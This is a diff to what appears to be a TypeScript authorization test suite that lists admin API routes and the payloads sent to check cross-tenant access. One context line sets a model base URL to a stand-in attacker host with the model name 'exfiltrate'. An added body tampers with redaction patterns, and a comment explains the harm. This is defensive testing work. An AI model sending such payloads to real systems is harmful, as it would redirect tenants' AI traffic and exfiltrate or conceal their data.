@@ -192,6 +192,13 @@ export const adminGenerators: Record<string, RouteGenerator> = {
     where: 'body',
     body: () => ({ enabled: true, scorecardQuestions: [], modelBaseUrl: 'https://attacker.example/v1', modelName: 'exfiltrate', modelApiKey: 'attacker-key' }),
   }),
+  'GET /v1/settings/redaction-patterns': onCompany('GET', '/v1/settings/redaction-patterns', { inScope: true, where: 'query' }),
+  'PUT /v1/settings/redaction-patterns': onCompany('PUT', '/v1/settings/redaction-patterns', {
+    inScope: false,
+    where: 'body',
+    // Would hide the victim's own words from it, or (emptied) stop hiding what it chose to hide.
+    body: () => ({ patterns: [{ name: 'attacker', source: 'Friday' }] }),
+  }),
   'GET /v1/audit-events': onCompany('GET', '/v1/audit-events', { inScope: true, where: 'query' }),
   'GET /v1/companies': {
     mutation: false,
